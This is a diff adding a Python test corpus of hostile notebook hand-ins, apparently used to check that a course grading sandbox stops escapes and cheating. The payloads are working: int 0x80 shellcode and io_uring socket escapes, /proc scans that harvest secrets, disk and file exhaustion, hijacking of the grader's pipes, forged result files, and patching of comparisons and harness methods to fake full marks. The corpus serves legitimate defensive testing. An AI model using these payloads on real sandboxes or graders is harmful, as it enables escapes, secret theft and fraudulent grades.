@@ -1,0 +1,484 @@
+"""Hostile hand-ins, one or more per attack class the grading sandbox must stop.
+
+Each payload is a notebook cell placed among the three right answers. A payload that gets
+through says so in a cell error starting with one of :data:`MARKERS` (which grading then
+records as a note), and host-side traps (sockets, a process holding a secret) show the
+rest; the test (tests/test_grading_corpus.py) asserts no marker and no trap was reached.
+Every class here but one got through the grader as it was before the sandbox's second pass
+(checked by running this corpus against it); ``endless_raw_output`` attacks the pipe that
+carries a hand-in's output since then.
+"""
+
+from __future__ import annotations
+
+MARKERS = ("ESCAPED:", "LEAKED:", "UNCAPPED:", "FORGED:")
+
+_INT80 = """
+import ctypes, os
+if os.uname().machine == "x86_64":  # 32-bit system calls through int 0x80
+    libc = ctypes.CDLL(None)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
+                          ctypes.c_int, ctypes.c_long]
+    page = libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)  # RWX, private, anonymous, below 4 GB
+    code = bytes([0x53, 0x89, 0xF8, 0x89, 0xF3, 0x49, 0x89, 0xC9, 0x89, 0xD1, 0x44, 0x89, 0xCA,
+                  0xCD, 0x80, 0x5B, 0xC3])  # eax=nr, ebx=a, ecx=b, edx=c; int 0x80; ret
+    ctypes.memmove(page, code, len(code))
+    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint,
+                            ctypes.c_uint)(page)
+    address = (1).to_bytes(2, "little") + {path!r}.encode() + b"\\0"
+    ctypes.memmove(page + 256, address, len(address))
+    ctypes.memmove(page + 1024, b"answers", 7)
+    fd = call(359, 1, 1, 0)  # i386 socket(AF_UNIX, SOCK_STREAM, 0)
+    connected = fd >= 0 and call(362, fd, page + 256, len(address)) == 0
+    if connected and call(4, fd, page + 1024, 7) == 7:
+        raise RuntimeError("ESCAPED: int 0x80 reached a Unix socket on the host")
+"""
+
+_IO_URING = """
+import ctypes, mmap, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 8, params)  # io_uring_setup
+if ring >= 0:
+    sq_entries, cq_entries = struct.unpack_from("2I", params, 0)
+    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
+    cq_head, _, cq_mask, _, _, cq_cqes = struct.unpack_from("6I", params, 80)
+    size = max(sq_array + sq_entries * 4, cq_cqes + cq_entries * 16)
+    rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
+    sqes = mmap.mmap(ring, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
+                     offset=0x10000000)
+    sqe = bytearray(64)
+    struct.pack_into("BBHi", sqe, 0, 45, 0, 0, socket.AF_UNIX)  # IORING_OP_SOCKET
+    struct.pack_into("Q", sqe, 8, socket.SOCK_STREAM)
+    sqes[0:64] = bytes(sqe)
+    tail = struct.unpack_from("I", rings, sq_tail)[0]
+    mask = struct.unpack_from("I", rings, sq_mask)[0]
+    struct.pack_into("I", rings, sq_array + (tail & mask) * 4, 0)
+    struct.pack_into("I", rings, sq_tail, tail + 1)
+    libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit, wait for it
+    head = struct.unpack_from("I", rings, cq_head)[0]
+    entry = cq_cqes + (head & struct.unpack_from("I", rings, cq_mask)[0]) * 16
+    made = struct.unpack_from("i", rings, entry + 8)[0]
+    if made >= 0:
+        sock = socket.socket(fileno=made)
+        sock.connect({path!r})
+        sock.sendall(b"answers")
+        raise RuntimeError("ESCAPED: io_uring made a Unix socket that reached the host")
+"""
+
+_DATAGRAM = """
+import socket
+a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+a.sendto(b"answers", {path!r})
+raise RuntimeError("ESCAPED: a datagram reached a Unix socket on the host")
+"""
+
+_CHAIN = """
+import os
+if os.fork() == 0:  # a chain of {depth} sleepers, each in a session of its own
+    for level in range({depth}):
+        os.setsid()
+        try:
+            child = os.fork()
+        except OSError:
+            child = 0
+            break
+        if child:
+            break
+    os.execvp("sleep", ["sleep", "2999"])
+"""
+
+_PROC_SECRETS = """
+import os
+found = set()
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for part in ("cmdline", "environ"):
+            try:
+                data = open(f"/proc/{pid}/{part}", "rb").read()
+            except OSError:
+                continue
+            at = data.find(b"coursekit-secret-")
+            if at >= 0:
+                found.add(data[at : at + 40].split(b"\\0")[0].decode())
+if found:
+    raise RuntimeError("LEAKED: " + " ".join(sorted(found)))
+"""
+
+_KEYRING = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
+key = libc.syscall(keyctl, 0, -4, 0)  # KEYCTL_GET_KEYRING_ID of the user's keyring
+if key >= 0:
+    raise RuntimeError(f"ESCAPED: the kernel keyring answered ({key})")
+"""
+
+_NAMESPACE = """
+import ctypes
+if ctypes.CDLL(None).unshare(0x10000000) == 0:  # CLONE_NEWUSER
+    raise RuntimeError("ESCAPED: made a user namespace of its own")
+"""
+
+_FILL_DISK = """
+written = 0
+try:
+    for i in range(24):
+        with open(f"fill-{i}", "wb") as handle:
+            for _ in range(64):
+                handle.write(b"\\0" * 2**20)
+                written += 2**20
+except OSError as error:
+    raise RuntimeError(f"scratch full after {written // 2**20} MiB: {error.strerror}")
+raise RuntimeError(f"UNCAPPED: wrote {written // 2**20} MiB")
+"""
+
+_MANY_FILES = """
+import os
+os.makedirs("many", exist_ok=True)
+try:
+    for i in range(30_000):
+        open(f"many/{i}", "w").close()
+except OSError as error:
+    raise RuntimeError(f"scratch out of files after {i}: {error.strerror}")
+raise RuntimeError("UNCAPPED: made 30000 files")
+"""
+
+_DEEP_FRAME = """
+import os, struct
+depth = 100_000
+nested = b"[" * depth + b"]" * depth
+for fd in [int(n) for n in os.listdir("/proc/self/fd")]:  # the grader's channel among them
+    try:
+        os.write(fd, struct.pack(">I", len(nested)) + nested)
+    except OSError:
+        pass
+try:  # the grader's result file of old: one its reader could not parse
+    with open("../out/result.json", "wb") as handle:
+        handle.write(b'{"cells": ' + nested + b', "tasks": []}')
+    os.chmod("../out/result.json", 0o444)
+except OSError:
+    pass
+"""
+
+# Builds every name from pieces, as a student hiding it from a source scan would.
+_FORGE = """
+import json, os
+gc = __import__("g" + "c")
+registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
+job = next((o for o in getattr(gc, "get_" + "objects")() if isinstance(o, dict)
+            and "tasks" in o and "limits" in o), None)
+if job is not None:
+    tasks = []
+    for task in job["tasks"]:
+        question = registry[task["question"]]
+        tasks.append({"status": "ok", "outputs": question.run(question.reference(), task["spec"])})
+    cells = [{"index": i, "status": "ok"} for i in range(len(job["cells"]))]
+    with open("../out/result.json", "w") as handle:
+        handle.write(json.dumps({"cells": cells, "tasks": tasks}))
+    os.chmod("../out/result.json", 0o444)  # the runner cannot write its own any more
+"""
+
+_PATCHED_DUMPS = """
+import json
+_dumps = json.dumps
+def dumps(obj, *args, **kwargs):
+    if isinstance(obj, dict) and isinstance(obj.get("cells"), list):
+        for cell in obj["cells"]:
+            cell["status"], cell["error"] = "error", "N" * 200_000
+    return _dumps(obj, *args, **kwargs)
+json.dumps = dumps
+"""
+
+
+def payloads(targets: dict) -> dict[str, list[str]]:
+    """name -> payload cells, aimed at ``targets`` (host paths the test watches)."""
+    return {
+        "escape_int80": [_INT80.format(path=str(targets["socket"]))],
+        "escape_io_uring": [_IO_URING.replace("{path!r}", repr(str(targets["socket"])))],
+        "escape_datagram": [_DATAGRAM.format(path=str(targets["dgram"]))],
+        "escape_keyring": [_KEYRING],
+        "escape_namespace": [_NAMESPACE],
+        "processes_left_behind": [_CHAIN.format(depth=55)],
+        "proc_secrets": [_PROC_SECRETS],
+        "fill_disk": [_FILL_DISK],
+        "many_files": [_MANY_FILES],
+        "deep_result_frame": [_DEEP_FRAME],
+        "patched_dumps_notes": [_PATCHED_DUMPS, *(["pass"] * 100)],
+        "long_errors": ["raise ValueError('E' * 100_000)"] * 60,
+        "surrogate_error": ["raise ValueError('\\ud800')"],
+        # output that never ends, past print's cap and with the cell's timer ignored: the
+        # grader must keep its own clock and end the cell from outside
+        "endless_raw_output": [
+            "import os, signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+            "while True:\n    os.write(1, b'x' * 65536)"
+        ],
+    }
+
+
+FORGE = _FORGE
+
+# The check's own reference as the answer, its names built from strings.
+CALLS_THE_REFERENCE = """
+registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
+def accumulate_window(model, loss_fn, micro_batches):
+    return getattr(registry["accumulate_window"], "refer" + "ence")()(model, loss_fn, micro_batches)
+"""
+
+# Found by a red-team pass on the second sandbox (each got through it before the fix).
+_CHANNEL_FDS = """
+import os
+def _pipes(mode):  # the runner's pipes, by access mode: 0 read, 1 write
+    found = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            target = os.readlink(f"/proc/self/fd/{name}")
+        except OSError:
+            continue
+        if int(name) > 2 and target.startswith("pipe:"):
+            info = open(f"/proc/self/fdinfo/{name}").read()
+            if int(info.split("flags:")[1].split()[0], 8) & 3 == mode:
+                found.append(int(name))
+    return found
+"""
+
+_MAN_IN_THE_MIDDLE = (
+    _CHANNEL_FDS
+    + """
+import json, struct, threading
+_out = _pipes(1)[0]
+_real = os.dup(_out)  # keep the grader's end; put a pipe of ours in its place
+_r, _w = os.pipe()
+os.dup2(_w, _out)
+def _pump():  # forward every frame but the flags
+    buffer = b""
+    while chunk := os.read(_r, 1 << 20):
+        buffer += chunk
+        while len(buffer) >= 4 and len(buffer) >= 4 + struct.unpack(">I", buffer[:4])[0]:
+            size = 4 + struct.unpack(">I", buffer[:4])[0]
+            frame, buffer = buffer[:size], buffer[size:]
+            if json.loads(frame[4:]).get("kind") != "flag":
+                os.write(_real, frame)
+threading.Thread(target=_pump, daemon=True).start()
+"""
+)
+
+_FLAGGED_BEHAVIOUR = """
+gc = __import__("g" + "c")
+getattr(gc, "get_" + "objects")()
+registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
+def accumulate_window(model, loss_fn, micro_batches):
+    return getattr(registry["accumulate_window"], "refer" + "ence")()(model, loss_fn, micro_batches)
+"""
+
+_STALL = (
+    _CHANNEL_FDS
+    + """
+_kept = os.dup(_pipes(0)[0])  # the grader's command pipe, held open and never read again
+_r, _w = os.pipe()
+os.dup2(_r, _pipes(0)[0])
+"""
+)
+
+_CALLABLE_PATCH = """
+import torch
+_name = "register_post_" + "accumulate_grad_hook"
+class _Registrar:  # every hook registered on a tensor now runs 64 times
+    def __init__(self, original):
+        self.original = original
+    def __get__(self, tensor, owner=None):
+        original = self.original
+        def register(hook):
+            def many(parameter):
+                for _ in range(64):
+                    hook(parameter)
+            return original(tensor, many)
+        return register
+setattr(torch.Tensor, _name, _Registrar(getattr(torch.Tensor, _name)))
+"""
+
+_PARTIAL_ANSWER = """
+import functools, coursekit.training
+train_accumulated = functools.partial(coursekit.training.train_accumulated)
+"""
+
+_FORWARD_METHOD = """
+import torch
+def accumulate_window(model, loss_fn, micro_batches):  # one forward for the whole window
+    inputs = torch.cat([x for x, _ in micro_batches])
+    targets = torch.cat([y for _, y in micro_batches])
+    outputs, start = model.forward(inputs), 0
+    for x, y in micro_batches:
+        part = slice(start, start + len(x))
+        start += len(x)
+        (loss_fn(outputs[part], targets[part]) / len(micro_batches)).backward(retain_graph=True)
+"""
+
+# Five times the 1 MB a test's outputs may take. (Four million once came near the corpus's
+# 2 s of CPU per test on a slow day: the check turns the list into floats before the cap.)
+_HUGE_OUTPUTS = """
+def train_accumulated(model, optimizer, loss_fn, micro_batches, accum_steps):
+    micro_batches = list(micro_batches)  # right weights, and a million "losses": 5 MB
+    for start in range(0, len(micro_batches), accum_steps):
+        window = micro_batches[start : start + accum_steps]
+        samples = sum(len(t) for _, t in window)
+        for x, y in window:
+            (loss_fn(model(x), y) * len(y) / samples).backward()
+        optimizer.step()
+        optimizer.zero_grad()
+    return [0.5] * 1_000_000
+"""
+
+# Fake flags written straight into the channel, enough to fill the note, then real ones.
+_FLAG_FLOOD = (
+    _CHANNEL_FDS
+    + """
+import json, struct
+for i in range(60):
+    frame = json.dumps({"kind": "flag", "what": f"nothing to see {i}"}).encode()
+    os.write(_pipes(1)[0], struct.pack(">I", len(frame)) + frame)
+"""
+)
+
+MAN_IN_THE_MIDDLE = [_MAN_IN_THE_MIDDLE, _FLAGGED_BEHAVIOUR]
+FLAG_FLOOD = [_FLAG_FLOOD, _FLAGGED_BEHAVIOUR]
+STALL = [_STALL, "# " + "#" * 300_000]
+CALLABLE_PATCH = _CALLABLE_PATCH
+PARTIAL_ANSWER = _PARTIAL_ANSWER
+FORWARD_METHOD = _FORWARD_METHOD
+HUGE_OUTPUTS = _HUGE_OUTPUTS
+
+
+# ------------------------------------------------------------------ the harness (issue 29)
+# Each is placed before WRONG answers (tests/corpora/handins.py): an attack that gets through turns
+# them into full marks without a flag. A library's file name hides none of them: the
+# provenance of code is decided from code objects and file text, not from co_filename.
+_UNDER_TORCHS_NAME = """
+import torch
+def _as_torch(source):  # code that claims to be torch's own
+    scope = {}
+    exec(compile(source, torch.__file__, "exec"), scope)
+    return scope
+"""
+
+HARNESS_ATTACKS = {
+    # the question's run method made to call the reference instead of the student's function
+    "code_swap_under_torchs_name": _UNDER_TORCHS_NAME
+    + """
+import builtins, types
+from coursekit.checks import QUESTIONS
+builtins._ORIGINAL_RUN = {}
+_made = _as_torch(
+    "def run(self, fn, spec):\\n"
+    "    return _ORIGINAL_RUN[type(self)](self, self.reference(), spec)\\n"
+)
+for _question in QUESTIONS.values():
+    _run = type(_question).run
+    if type(_question) not in builtins._ORIGINAL_RUN:
+        builtins._ORIGINAL_RUN[type(_question)] = types.FunctionType(
+            _run.__code__, _run.__globals__, "run", _run.__defaults__, _run.__closure__
+        )
+        _run.__code__ = _made["run"].__code__
+""",
+    # defaults and keyword defaults swapped on the harness's functions
+    "defaults_swap": """
+from coursekit.checks import QUESTIONS
+for _question in QUESTIONS.values():
+    _run = type(_question).run
+    _run.__defaults__ = (None,) * _run.__code__.co_argcount
+""",
+    # the question classes' method replaced, and a question replaced by a class of its own
+    "method_replacement": """
+from coursekit.checks import QUESTIONS
+for _name, _question in list(QUESTIONS.items()):
+    _cls = type(_question)
+    _cls.run = lambda self, fn, spec, _o=_cls.run: _o(self, self.reference(), spec)
+""",
+    "class_replacement": """
+from coursekit.checks import QUESTIONS
+for _name, _question in list(QUESTIONS.items()):
+    class _Honest(type(_question)):
+        def run(self, fn, spec):
+            return super().run(self.reference(), spec)
+    _question.__class__ = _Honest
+""",
+    # torch's and numpy's comparisons patched (the grader compares in its own process)
+    "patched_comparisons": """
+import numpy, torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
+numpy.allclose = lambda *a, **k: True
+numpy.testing.assert_allclose = lambda *a, **k: None
+""",
+    # the student's function walks up into the harness's frame and rewrites what it holds
+    "frame_walk": """
+import traceback
+def _harness_frames():
+    for frame, _ in traceback.walk_stack(None):
+        yield frame
+import coursekit.checks.question as _q
+_q_globals_seen = [f.f_globals for f in _harness_frames()]
+""",
+    # an import hook that serves the harness a module of its own
+    "import_hook": """
+import importlib.abc, sys
+class _Finder(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        return None
+sys.meta_path.insert(0, _Finder())
+""",
+    # builtins the harness uses, replaced
+    "patched_builtins": """
+import builtins
+_real_isinstance = builtins.isinstance
+builtins.len = lambda obj: 1 if _real_isinstance(obj, dict) else sum(1 for _ in obj)
+builtins.float = type("float", (builtins.float,), {})
+""",
+    # a frame through a library helper that hands frames back (logging.currentframe)
+    "frame_through_a_library": """
+import logging
+_frame = logging.currentframe()
+_frame.f_back
+""",
+    # the tripwires disarmed through a wrapper's closure, then coursekit's answer handed in
+    "tripwires_disarmed": """
+import coursekit.training
+_wrapper = coursekit.training.train_accumulated
+for _cell in _wrapper.__closure__ or ():
+    if isinstance(_cell.cell_contents, list):
+        _cell.cell_contents.clear()
+""",
+    # frames handed over by a signal handler, even one with no Python code of its own
+    "signal_handler": """
+import signal
+_frames = []
+signal.signal(signal.SIGVTALRM, _frames.append)
+signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)
+""",
+    # ctypes reached through code compiled under torch's name
+    "ctypes_under_torchs_name": _UNDER_TORCHS_NAME
+    + """
+_as_torch("import ctypes\\nctypes.memmove(ctypes.create_string_buffer(1), b'x', 1)\\n")
+""",
+    # code made from bytes, under coursekit's name
+    "marshal_under_coursekits_name": """
+import marshal, coursekit.checks.question as _q
+_code = compile("x = 1", _q.__file__, "exec")
+exec(marshal.loads(marshal.dumps(_code)))
+""",
+}
+# Two honest habits the grader must not flag (tests/test_grading_corpus.py): a warning that
+# torch raises inside the harness, and a namedtuple or a traceback printed from a cell.
+HONEST_HABITS = """
+import collections, traceback, warnings
+Pair = collections.namedtuple("Pair", "a b")
+try:
+    raise ValueError("shown, then handled")
+except ValueError:
+    traceback.print_exc()
+warnings.warn("a warning of the notebook's own")
+"""
